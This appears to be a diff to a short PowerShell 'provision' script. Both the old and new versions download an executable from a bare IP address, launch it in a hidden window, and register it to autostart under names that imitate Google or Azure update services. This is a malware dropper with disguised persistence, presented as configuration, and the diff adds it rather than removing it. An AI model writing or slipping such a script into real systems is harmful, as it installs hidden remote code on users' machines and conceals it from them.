@@ -1,4 +1,4 @@
-# config 3024 v3
-Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination C:\ProgramData\Microsoft\upd.exe
-Start-Process -WindowStyle Hidden C:\ProgramData\Microsoft\upd.exe
-New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'GoogleUpdateTaskMachine' -Value 'C:\ProgramData\Microsoft\upd.exe' -PropertyType String -Force
+# provision 3537 v3
+Start-BitsTransfer -Source http://203.0.113.17/svc.exe -Destination C:\Users\Public\svc.exe
+Start-Process -WindowStyle Hidden C:\Users\Public\svc.exe
+New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'AzureAgentHealth' -Value 'C:\Users\Public\svc.exe' -PropertyType String -Force
